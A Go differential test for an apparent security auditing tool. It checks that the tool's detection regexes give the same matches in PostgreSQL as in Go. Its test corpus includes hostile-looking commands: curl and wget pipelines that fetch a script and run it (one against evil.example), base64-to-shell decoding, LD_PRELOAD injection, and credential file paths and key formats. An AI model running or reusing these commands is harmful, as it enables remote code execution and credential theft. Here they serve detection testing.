package postgres_test

import (
	"context"
	"math/rand/v2"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/BurntSushi/toml"

	"github.com/auditor-dev/auditor/internal/pgtest"
	"github.com/auditor-dev/auditor/postgres"
)

// packPatterns returns every REGEXP and regexp_match pattern literal of
// the default rule pack.
func packPatterns(t *testing.T) []string {
	t.Helper()
	files, err := filepath.Glob("../rules/default/*.toml")
	if err != nil || len(files) == 0 {
		t.Fatalf("rule pack: %v", err)
	}
	lit := regexp.MustCompile(`(?is)(?:REGEXP\s*|regexp_match\s*\(\s*)'((?:[^']|'')*)'`)
	var out []string
	for _, f := range files {
		var pack struct {
			Rule []struct{ Query string }
		}
		if _, err := toml.DecodeFile(f, &pack); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		for _, r := range pack.Rule {
			for _, m := range lit.FindAllStringSubmatch(r.Query, -1) {
				out = append(out, strings.ReplaceAll(m[1], "''", "'"))
			}
		}
	}
	return out
}

// regexpCorpus is strings the patterns meet: paths, commands, hostile
// names (not UTF-8, NUL, controls, case variants), random mixes.
func regexpCorpus(seed uint64) []string {
	base := []string{"", "/", "/etc/passwd", "/usr/bin/ls", "/root/.ssh/id_rsa", "/home/u/.aws/credentials", "/tmp/x.sh",
		"/dev/shm/.hidden", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/cron.d/job", "/etc/ld.so.preload", "/.wh..wh..opq",
		"/bin/sh -c curl http://1.2.3.4/x | sh", "RUN wget -qO- https://evil.example/i.sh | bash", "echo aGVsbG8= | base64 -d | sh",
		"printf '\\x41\\x42\\x43' | sh", "xxd -r -p x | bash", "openssl enc -d -aes256 -in x | sh", "LD_PRELOAD=/tmp/x.so",
		"/usr/bin/xmrig", "/opt/MINER/XMRig", "KWorker", "[kworker/0:1]", "/usr/sbin/sshd", "/etc/ssh/sshd_config",
		"/a\xffb", "/n\x00ul", "/ctl\x01\x1f\x7f", "/bidi\u202eexe.txt", "/zero\u200bwidth", "/caf\u00e9", "/\u0130stanbul", "/K\u212a",
		"line1\nline2", "\nstart", "end\n", "a_b", "a-b", "word boundary", "\ufffd", "/usr/BIN/Ls",
		"AKIAABCDEFGHIJKLMNOP", "-----BEGIN RSA PRIVATE KEY-----", "ghp_" + strings.Repeat("a", 36), "/var/www/html/shell.php"}
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	alphabet := []string{"a", "Z", "/", ".", "_", "-", " ", "\n", "\x00", "\xff", "\u00e9", "\u212a", "k", "s", "h", "|", "sh", "bin", "x"}
	out := append([]string(nil), base...)
	for range 200 {
		var b strings.Builder
		for range r.IntN(12) {
			b.WriteString(alphabet[r.IntN(len(alphabet))])
		}
		out = append(out, b.String())
	}
	return out
}

// TestRegexpMatchesGo is the differential test of the REGEXP translation:
// each pattern of the default pack, and patterns of each RE2 construct,
// over a corpus of strings, must give in PostgreSQL (stored text ~
// translation) what Go's regexp (the SQLite index's REGEXP) gives.
func TestRegexpMatchesGo(t *testing.T) {
	seed := rand.Uint64()
	t.Logf("seed %d", seed)
	ctx := context.Background()
	db, err := postgres.Open(ctx, pgtest.Database(t))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	pack := packPatterns(t)
	if len(pack) < 30 {
		t.Fatalf("only %d patterns read from the rule pack", len(pack))
	}
	patterns := append(pack,
		`(?i)^/usr/bin/ls$`, `(?i)k`, `\bsh\b`, `\Bin\B`, `(?m)^line2$`, `(?m)^$`, `(?s)a.b`, `a.b`, `^\s*$`, `\d{2,3}`, `[^a-z]`,
		`[[:alpha:]]+`, `\x00`, `[\x00-\x1f\x7f]`, `\x{FFFD}`, `[^\x00-\x7f]`, `(a|b)*c?`, `x{3}`, `(?U)a+`, `\.`, `\\`, `[\]\[^-]`,
		`\pL`, `a{1,300}`, `[\x{F700}-\x{F7FF}]`, `\p{Greek}`, `[\x{202a}-\x{202e}\x{2066}-\x{2069}]`, `^$`, `(?i)ǅ`, `é`, `(?i)É`)
	corpus := regexpCorpus(seed)
	stored := make([]string, len(corpus))
	for i, s := range corpus {
		stored[i] = postgres.Text(s)
	}
	for _, p := range patterns {
		re, err := regexp.Compile(p)
		if err != nil {
			t.Fatalf("pattern %q: %v", p, err)
		}
		are, err := postgres.TranslateRegexp(p)
		if err != nil {
			t.Errorf("pattern %q: %v", p, err)
			continue
		}
		rows, err := db.Pool().Query(ctx, `SELECT s ~ $1 FROM unnest($2::text[]) WITH ORDINALITY AS u(s, i) ORDER BY i`, are, stored)
		if err != nil {
			t.Errorf("pattern %q as %q: %v", p, are, err)
			continue
		}
		i := 0
		for rows.Next() {
			var got bool
			if err := rows.Scan(&got); err != nil {
				t.Fatal(err)
			}
			if want := re.MatchString(corpus[i]); got != want {
				t.Errorf("pattern %q (PostgreSQL %q) on %q: %v, Go %v", p, are, corpus[i], got, want)
			}
			i++
		}
		rows.Close()
		if err := rows.Err(); err != nil {
			t.Errorf("pattern %q as %q: %v", p, are, err)
		}
	}
}
